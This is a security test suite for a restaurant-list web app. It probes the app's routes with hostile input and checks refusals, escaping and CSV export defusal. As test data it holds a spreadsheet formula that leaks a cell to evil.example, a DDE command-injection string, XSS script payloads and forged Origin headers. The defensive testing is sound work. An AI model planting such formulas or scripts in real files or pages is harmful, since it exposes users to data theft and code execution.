import { env, SELF } from "cloudflare:test";
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { cuisineSlug } from "~/lib/slug";
import {
  accountFormProbes,
  authFormProbes,
  oddBodyProbes,
  placeFormOddProbes,
  placeFormProbes,
  reportFormProbes,
  type Accounts,
} from "../fixtures/hostile/form-probes";
import { homeProbes, otherQueryProbes, pathProbes } from "../fixtures/hostile/page-probes";
import {
  formProbe,
  getProbe,
  label,
  LOCAL,
  nextMarker,
  ORIGIN,
  sameOrigin,
  type Probe,
} from "../fixtures/hostile/probe";
import { cookieProbes, headerProbes } from "../fixtures/hostile/shapes";
import { shareCodeProbes, slugListProbes, tenThousandSlugShare } from "../fixtures/hostile/share-probes";
import { placeFormValuesOf } from "~/lib/place-edit/place-facts";
import { PLACE_FIELD_LABELS } from "~/lib/place-edit/place-form";
import { findEditablePlace } from "~/models/place-edit.server";
import { createAccount, PASSWORD, signedInAs } from "./support/auth-helpers";
import { dataVersion, db, deliverAndApply, job, seedFixtures, stagedRowCount } from "./support/import-support";

/** Every case of the public csv-spectrum suite (a devDependency), as text. */
const spectrum = import.meta.glob<string>("/node_modules/csv-spectrum/csvs/*.csv", {
  query: "?raw",
  import: "default",
  eager: true,
});

const SLOW_MS = 2_000;
/** Each test sends dozens of requests (some hash passwords): more than the default on a busy 2-core machine. */
const SWEEP = { timeout: 90_000 };
/** A refused request must leave these exactly as they were. */
const CHECKED_TABLES = [
  "users",
  "sessions",
  "password_resets",
  "user_roles",
  "saved_restaurants",
  "been_restaurants",
  "shared_lists",
  "import_jobs",
  "restaurants",
  "neighborhood_descriptions",
  "reports",
  "data_changes",
  "data_meta",
];
const DATA_TABLES = ["restaurants", "neighborhood_descriptions"];
/** Answers a browser could render; JSON and Remix's turbo-stream data are not documents. */
const DOCUMENT_TYPE = /^(text\/html|text\/plain|text\/xml|application\/xml)/i;
/** Larger than any body the app accepts (the largest upload, a list edition, is 10 MB; forms 256 KB). */
const OVERSIZE_BYTES = 12 * 1024 * 1024;

const stats = { requests: 0, serverErrors: 0, slow: 0, echoes: 0, d1Changes: 0 };
/** Documents that showed a probe's marker escaped: proof the values reach the pages at all. */
let reflected = 0;
let accounts: Accounts;
/** The checksum after the last probe, which is the next one's "before"; null after any other write. */
let snapshot: string | null = null;

async function checksum(tables = CHECKED_TABLES): Promise<string> {
  const results = await env.DB.batch(tables.map((table) => env.DB.prepare(`SELECT * FROM ${table} ORDER BY rowid`)));
  const text = JSON.stringify(results.map((result) => result.results));
  const digest = new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text)));
  return [...digest].map((byte) => byte.toString(16).padStart(2, "0")).join("");
}

type Answer = { status: number; body: string; problems: string[] };

/** Sends one probe and checks what every answer owes: no 5xx, within 2 s, no raw echo, no write when refused. */
async function send(probe: Probe): Promise<Answer> {
  const before = snapshot ?? (await checksum());
  const started = performance.now();
  const response = await SELF.fetch(probe.url, { redirect: "manual", ...probe.init });
  const body = await response.text();
  const elapsed = performance.now() - started;
  const after = await checksum();
  snapshot = after;
  stats.requests++;
  const { status } = response;
  const problems: string[] = [];
  if (status >= 500) {
    stats.serverErrors++;
    problems.push(`answered ${status}`);
  }
  if (elapsed > SLOW_MS) {
    stats.slow++;
    problems.push(`took ${Math.round(elapsed)} ms`);
  }
  const isDocument = DOCUMENT_TYPE.test(response.headers.get("Content-Type") ?? "");
  const echoed = isDocument ? [...probe.forbidden, "<script>alert("].filter((text) => body.includes(text)) : [];
  if (isDocument && probe.forbidden.some((text) => body.includes(text.replace("<", "&lt;")))) reflected++;
  if (echoed.length) {
    stats.echoes++;
    problems.push(`echoed ${echoed.map(label).join(", ")} raw`);
  }
  if (status >= 400 && status < 500 && before !== after) {
    stats.d1Changes++;
    problems.push(`changed D1 although refused with ${status}`);
  }
  return { status, body, problems: problems.map((problem) => `${probe.label} → ${problem}`) };
}

async function sweep(probes: Probe[]): Promise<string[]> {
  const problems: string[] = [];
  for (const probe of probes) problems.push(...(await send(probe)).problems);
  return problems;
}

/** "label → status" for each probe (and any problem send found), to compare with the statuses they should get. */
async function statuses(probes: Probe[]): Promise<string[]> {
  const seen: string[] = [];
  for (const probe of probes) {
    const { status, problems } = await send(probe);
    seen.push(`${probe.label} → ${status}`, ...problems);
  }
  return seen;
}

beforeAll(async () => {
  await seedFixtures();
  const diner = await signedInAs("hostile-diner@example.com");
  const admin = await signedInAs("hostile-admin@example.com", { admin: true });
  await createAccount("hostile-pending@example.com", { verified: false });
  snapshot = null;
  accounts = { dinerEmail: diner.user.email, password: PASSWORD, diner: diner.cookie, admin: admin.cookie };
});

afterAll(() => {
  console.log(
    `hostile-input: ${stats.requests} requests, ${stats.serverErrors} server errors, ${stats.slow} slow, ` +
      `${stats.echoes} echoes, ${stats.d1Changes} D1 changes by refused requests`,
  );
  expect(stats.requests).toBeGreaterThanOrEqual(300);
});

describe("hostile requests to every public route", SWEEP, () => {
  it("hostile query parameters on every list view and page are answered cleanly", async () => {
    const before = reflected;
    const problems = await sweep([...homeProbes(2), ...otherQueryProbes()]);
    expect(reflected - before, "pages that showed the hostile value, escaped").toBeGreaterThan(0);
    expect(problems).toEqual([]);
  });

  it("every slug position and path shape is answered cleanly", async () => {
    expect(await sweep(pathProbes())).toEqual([]);
  });

  it("every cookie shape, forged, huge or unicode, is answered cleanly", async () => {
    expect(await sweep(cookieProbes(accounts.diner))).toEqual([]);
  });

  it("a malformed session cookie counts as no cookie: the page answers 200", async () => {
    const probes = [
      getProbe("/", nextMarker(), { Cookie: "session=a.b!" }, LOCAL),
      getProbe("/auth", nextMarker(), { Cookie: "session=a.b!" }, LOCAL),
      getProbe("/", nextMarker(), { Cookie: "__Host-session=a.b!" }),
      getProbe("/saved", nextMarker(), { Cookie: "__Host-session=a.b!" }),
    ];
    expect(await statuses(probes)).toEqual(probes.map((probe) => `${probe.label} → 200`));
  });

  it("odd, huge and lying headers and every method are answered cleanly", async () => {
    expect(await sweep(headerProbes())).toEqual([]);
  });
});

describe("hostile form posts", SWEEP, () => {
  it("sign-in, sign-up, resend and password reset refuse or accept hostile fields without a server error or an echo", async () => {
    expect(await sweep(authFormProbes(accounts))).toEqual([]);
  });

  it("account, saved-list, admin, sign-out and bootstrap posts with hostile fields are answered cleanly", async () => {
    expect(await sweep(accountFormProbes(accounts))).toEqual([]);
  });

  it("reports, and an admin's decisions on them, take hostile fields cleanly; the Reports tab shows them escaped", async () => {
    const moved = await env.DB.prepare(
      `INSERT INTO reports (restaurant_slug, kind, created_at) VALUES ('zankou-chicken', 'moved', '2026-01-01T00:00:00Z') RETURNING id`,
    ).first<{ id: number }>();
    snapshot = null;
    const probes = reportFormProbes(accounts, moved!.id);
    const problems = await sweep(probes);
    const stored = await env.DB.prepare(
      "SELECT count(*) AS n FROM reports WHERE details LIKE '%<svg data-hostile-%'",
    ).first<{ n: number }>();
    expect(stored?.n, "reports stored with markup in their details").toBeGreaterThan(3);
    const place = await env.DB.prepare("SELECT status FROM restaurants WHERE slug = 'zankou-chicken'").first();
    expect(place, "a blank month accepted the move").toEqual({ status: "moved" });
    const before = reflected;
    const tab = {
      ...getProbe("/admin?tab=reports", nextMarker(), { Cookie: accounts.admin }),
      forbidden: probes.flatMap((p) => p.forbidden),
    };
    problems.push(...(await send(tab)).problems);
    expect(reflected - before, "the Reports tab showed the stored markup, escaped").toBe(1);
    expect(problems).toEqual([]);
  });

  it("the place edit form takes hostile values in every field cleanly: refused whole, or saved and shown escaped", async () => {
    const problems: string[] = [];
    const forbidden: string[] = [];
    for (const field of Object.keys(PLACE_FIELD_LABELS)) {
      const place = (await findEditablePlace(db(), "parks-bbq"))!;
      snapshot = null;
      const loaded = { loadedAt: place.updatedAt, values: placeFormValuesOf(place) };
      const probes = placeFormProbes(accounts, "parks-bbq", field, loaded);
      for (const probe of probes) {
        const { status, problems: found } = await send(probe);
        problems.push(...found);
        if (![200, 400, 409].includes(status)) problems.push(`${probe.label} → ${status}`);
      }
      forbidden.push(...probes.flatMap((p) => p.forbidden));
    }
    problems.push(...(await sweep(placeFormOddProbes(accounts, "parks-bbq"))));
    const saved = await env.DB.prepare(
      "SELECT count(*) AS n FROM data_changes WHERE kind = 'correction' AND summary LIKE '%data-hostile-%'",
    ).first<{ n: number }>();
    expect(saved?.n, "corrections saved with markup in them").toBeGreaterThan(0);
    const before = reflected;
    for (const path of ["/admin/restaurants/parks-bbq", "/restaurants/parks-bbq", "/changes", "/admin?tab=health"]) {
      const page = { ...getProbe(path, nextMarker(), { Cookie: accounts.admin }), forbidden };
      problems.push(...(await send(page)).problems);
    }
    expect(reflected - before, "pages that showed the saved markup, escaped").toBeGreaterThan(1);
    expect(problems).toEqual([]);
  });

  it("a form handler answers a body of the wrong type with a 4xx, never a server error", async () => {
    expect(await sweep(oddBodyProbes(accounts))).toEqual([]);
  });

  it("a POST is refused with 403 unless it says it comes from this origin, whatever else it claims", async () => {
    const claims: [string, Record<string, string>][] = [
      ["a foreign Origin labelled same-origin", { Origin: "https://evil.example", "Sec-Fetch-Site": "same-origin" }],
      ["a foreign Origin", { Origin: "https://evil.example" }],
      ["Origin null", { Origin: "null" }],
      ["an empty Origin", { Origin: "" }],
      ["a look-alike Origin", { Origin: "https://example.com.evil.example" }],
      ["a cross-site label", { "Sec-Fetch-Site": "cross-site" }],
      ["a same-site label", { "Sec-Fetch-Site": "same-site" }],
      ["a 'none' label", { "Sec-Fetch-Site": "none" }],
    ];
    const forms: [string, [string, string][], string?][] = [
      [
        "/auth",
        [
          ["intent", "signin"],
          ["email", "hostile-diner%40example.com"],
          ["password", PASSWORD],
        ],
      ],
      ["/auth/confirm?token=x", [["email", "hostile-pending%40example.com"]]],
      ["/auth/forgot", [["email", "hostile-diner%40example.com"]]],
      [
        "/account",
        [
          ["intent", "delete"],
          ["confirmEmail", "hostile-diner%40example.com"],
        ],
        accounts.diner,
      ],
      [
        "/resources/saved",
        [
          ["intent", "add"],
          ["slug", "bestia"],
        ],
        accounts.diner,
      ],
      [
        "/admin",
        [
          ["intent", "grant"],
          ["email", "nobody%40example.com"],
        ],
        accounts.admin,
      ],
      ["/restaurants/bestia/report", [["kind", "closed"]]],
      [
        "/admin/restaurants/bestia",
        [
          ["intent", "verify"],
          ["loadedAt", "x"],
        ],
        accounts.admin,
      ],
      [
        "/admin?tab=reports",
        [
          ["intent", "dismiss"],
          ["reportId", "1"],
        ],
        accounts.admin,
      ],
      [
        "/admin/imports/no-such-import",
        [
          ["intent", "discard"],
          ["attempt", "1"],
        ],
        accounts.admin,
      ],
    ];
    const probes = forms.flatMap(([path, fields, cookie]) =>
      claims.map(([claim, headers]) => {
        const probe = formProbe(path, fields, nextMarker(), {
          headers: { ...headers, ...(cookie ? { Cookie: cookie } : {}) },
        });
        return { ...probe, label: `POST ${path}, ${claim}` };
      }),
    );
    expect(await statuses(probes)).toEqual(probes.map((probe) => `${probe.label} → 403`));
  });

  it("a POST body over the size limit is refused with 413 before it is read", async () => {
    const oversize = () => new Uint8Array(OVERSIZE_BYTES).fill(0x61);
    const targets: [string, string, string?][] = [
      ["/auth", "application/x-www-form-urlencoded"],
      ["/auth/confirm?token=x", "application/x-www-form-urlencoded"],
      ["/resources/saved", "application/json", accounts.diner],
      ["/sign-out", "application/x-www-form-urlencoded", accounts.diner],
      ["/restaurants/bestia/report", "application/x-www-form-urlencoded"],
      ["/admin/imports", "multipart/form-data; boundary=zz", accounts.admin],
      ["/admin/restaurants/bestia", "application/x-www-form-urlencoded", accounts.admin],
      ["/admin/imports/no-such-import", "application/x-www-form-urlencoded", accounts.admin],
      ["/admin/imports", "multipart/form-data; boundary=zz"],
    ];
    const probes: Probe[] = targets.map(([path, type, cookie]) => ({
      label: `POST ${path} with ${OVERSIZE_BYTES} bytes${cookie ? ", signed in" : ""}`,
      url: ORIGIN + path,
      init: {
        method: "POST",
        body: oversize(),
        headers: { ...sameOrigin(), "Content-Type": type, ...(cookie ? { Cookie: cookie } : {}) },
      },
      forbidden: [nextMarker()],
    }));
    let pulled = 0;
    const chunk = new Uint8Array(64 * 1024).fill(0x61);
    const streamed = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (pulled >= OVERSIZE_BYTES) return controller.close();
        pulled += chunk.byteLength;
        controller.enqueue(chunk);
      },
    });
    const stream: Probe = {
      label: `POST /auth streaming ${OVERSIZE_BYTES} bytes without a length`,
      url: `${ORIGIN}/auth`,
      init: {
        method: "POST",
        body: streamed,
        headers: { ...sameOrigin(), "Content-Type": "application/x-www-form-urlencoded" },
      },
      forbidden: [nextMarker()],
    };
    const all = [...probes, stream];
    expect(await statuses(all)).toEqual(all.map((probe) => `${probe.label} → 413`));
    expect(pulled, "bytes of the streamed body read before refusing").toBeLessThan(OVERSIZE_BYTES);
  });
});

describe("hostile share links and exports", SWEEP, () => {
  it("a hostile share code, in every shape, gets the clear not-found page", async () => {
    const probes = shareCodeProbes();
    const problems: string[] = [];
    for (const probe of probes) {
      const { status, body, problems: found } = await send(probe);
      problems.push(...found);
      if (status !== 404) problems.push(`${probe.label} → ${status}, not 404`);
      if (!body.includes("There is no shared list at this link.")) problems.push(`${probe.label} → no clear message`);
    }
    expect(problems).toEqual([]);
  });

  it("a 10,000-slug share request is refused with 400, saying why, and stores nothing", async () => {
    const before = await checksum();
    const { status, body, problems } = await send(tenThousandSlugShare());
    expect(problems).toEqual([]);
    expect(status).toBe(400);
    expect(JSON.parse(body)).toEqual({ error: "A list holds at most 500 restaurants; this one has 10,000." });
    expect(await checksum()).toBe(before);
  });

  it("hostile slugs and scopes in shares, saved-list exports and progress counts are answered cleanly", async () => {
    expect(await sweep(slugListProbes())).toEqual([]);
  });

  it("a CSV export of a restaurant whose name starts with '=' comes out with the cell defused", async () => {
    const hostile = '=HYPERLINK("https://evil.example/?leak="&A1,"Bestia")';
    await env.DB.prepare("UPDATE restaurants SET name = ?, description = ? WHERE slug = 'bestia'")
      .bind(hostile, "@SUM(1+1)*cmd|' /C calc'!A0")
      .run();
    snapshot = null;
    try {
      const exports = [
        await SELF.fetch(`${ORIGIN}/export/csv?cuisine=italian`),
        await SELF.fetch(`${ORIGIN}/export/csv`, {
          method: "POST",
          body: new URLSearchParams({ slugs: "bestia" }),
          headers: sameOrigin(),
        }),
      ];
      for (const response of exports) {
        expect(response.status).toBe(200);
        const [row] = Papa.parse<Record<string, string>>(await response.text(), { header: true }).data;
        expect(row.Name).toBe(`'${hostile}`);
        expect(row.Description).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
      }
    } finally {
      await env.DB.prepare("UPDATE restaurants SET name = 'Bestia', description = ? WHERE slug = 'bestia'")
        .bind("Roman-leaning Italian in a warehouse.")
        .run();
      snapshot = null;
    }
  });
});

const RANKED_LIST_HEADERS = ["Restaurant Name", "Cuisine", "Neighborhood", "Description", "Address"];

/** A csv-spectrum case as a ranked list: its header renamed, its records untouched, one markup row added. */
function asRankedList(csv: string, n: number): string {
  const end = csv.search(/\r?\n/);
  const eol = csv[end] === "\r" ? "\r\n" : "\n";
  const header = RANKED_LIST_HEADERS.slice(0, csv.slice(0, end).split(",").length).join(",");
  const markup = `"<svg data-hostile-csv-${n}>"" onload=alert(1)>",Italian,Arts District,"<script>alert(1)</script>"`;
  return `${header}${csv.slice(end)}${/\r?\n$/.test(csv) ? "" : eol}${markup}${eol}`;
}

function upload(fileName: string, content: string | Uint8Array<ArrayBuffer>, kind: string): Promise<Answer> {
  const body = new FormData();
  body.append("kind", kind);
  body.append("file", new File([content], fileName, { type: "text/csv" }));
  return send({
    label: label(`POST /admin/imports ${kind} ${fileName}`),
    url: `${ORIGIN}/admin/imports`,
    init: { method: "POST", body, headers: { ...sameOrigin(), Cookie: accounts.admin } },
    forbidden: [],
  });
}

/** Runs the queue consumer on the job and waits for it to end (the real queue may deliverAndApply it too). */
async function finish(id: string) {
  await deliverAndApply([id]);
  snapshot = null;
  return vi.waitFor(
    async () => {
      const found = await job(id);
      if (found.status !== "done" && found.status !== "failed") throw new Error(`the import is still ${found.status}`);
      return found;
    },
    { timeout: 5_000, interval: 100 },
  );
}

/** Uploads one file as an admin and runs its job; returns what went wrong. */
async function importFile(fileName: string, content: string, kind: string): Promise<string[]> {
  const [data, version] = [await checksum(DATA_TABLES), await dataVersion()];
  const answer = await upload(fileName, content, kind);
  const where = `${kind} ${fileName}`;
  if (answer.status !== 202) {
    const { error } = JSON.parse(answer.body) as { error?: string };
    return [...answer.problems, ...(error ? [] : [`${where}: refused (${answer.status}) without a message`])];
  }
  const { id } = (JSON.parse(answer.body) as { job: { id: string } }).job;
  const ended = await finish(id);
  const problems = [...answer.problems];
  if (ended.status !== "done" && ended.status !== "failed") problems.push(`${where}: job still ${ended.status}`);
  if (!ended.message?.trim()) problems.push(`${where}: job ended (${ended.status}) without a message`);
  if ((await stagedRowCount()) !== 0) problems.push(`${where}: staged rows left behind`);
  const changed = (await checksum(DATA_TABLES)) !== data;
  if (changed && ended.status !== "done") problems.push(`${where}: ${ended.status} but changed the data`);
  if (changed && (await dataVersion()) !== version + 1)
    problems.push(`${where}: data changed without one version bump`);
  return problems;
}

describe("hostile CSV uploads", SWEEP, () => {
  it("every csv-spectrum case imports or fails whole, with a message, and public pages escape what it added", async () => {
    const cases = Object.entries(spectrum);
    expect(cases.length).toBe(12);
    const problems: string[] = [];
    const forbidden = new Set(["<svg data-hostile-csv", "<script>alert("]);
    for (const [index, [path, csv]] of cases.entries()) {
      const name = path.split("/").pop()!;
      problems.push(...(await importFile(name, csv, "restaurants")));
      const ranked = asRankedList(csv, index);
      problems.push(...(await importFile(`ranked-${name}`, ranked, "restaurants")));
      for (const fields of Papa.parse<string[]>(ranked, { delimiter: ",", skipEmptyLines: true }).data.slice(1))
        for (const v of fields) if (/[<"]/.test(v)) forbidden.add(v);
    }
    const { results: quoted } = await env.DB.prepare(
      `SELECT slug, cuisine FROM restaurants WHERE name || cuisine || neighborhood || coalesce(description, '') GLOB '*"*'`,
    ).all<{ slug: string; cuisine: string }>();
    const { results: markup } = await env.DB.prepare(
      "SELECT slug FROM restaurants WHERE name GLOB '*<svg data-hostile-csv*' LIMIT 2",
    ).all<{ slug: string }>();
    expect(quoted.length, "rows with quotes that reached the ranked list").toBeGreaterThan(0);
    expect(markup.length, "rows with markup that reached the ranked list").toBeGreaterThan(0);
    const pages = [
      "/?count=all",
      "/?q=svg",
      "/sitemap.xml",
      "/restaurants/cuisines",
      ...[...quoted, ...markup].map((row) => `/restaurants/${row.slug}`),
      ...quoted.map((row) => `/restaurants/cuisine/${cuisineSlug(row.cuisine)}`),
    ];
    const before = reflected;
    for (const page of new Set(pages)) {
      const probe = { ...getProbe(page, "<svg data-hostile-csv"), forbidden: [...forbidden] };
      problems.push(...(await send(probe)).problems);
    }
    expect(reflected - before, "pages that showed the imported markup, escaped").toBeGreaterThan(0);
    expect(problems).toEqual([]);
  });

  it("a Latin-1 (Windows-1252) CSV is refused with 400 asking for CSV UTF-8, and nothing is stored", async () => {
    const text = "Restaurant Name,Cuisine,Neighborhood,Price Range,Sources\nCafé Zürich,Swiss,Downtown,$$,Eater LA\n";
    const latin1 = Uint8Array.from(text, (char) => char.charCodeAt(0));
    expect([...latin1]).toContain(0xe9);
    const before = await checksum();
    const objects = (await env.UPLOADS.list({ prefix: "imports/" })).objects.length;
    const answer = await upload("cafe-latin1.csv", latin1, "restaurants");
    // Should the upload take it after all, its job runs now, so it cannot land during a later test.
    if (answer.status === 202) await finish((JSON.parse(answer.body) as { job: { id: string } }).job.id);
    expect(answer.status).toBe(400);
    expect((JSON.parse(answer.body) as { error: string }).error).toContain("CSV UTF-8");
    expect(await checksum()).toBe(before);
    expect((await env.UPLOADS.list({ prefix: "imports/" })).objects.length).toBe(objects);
  });
});
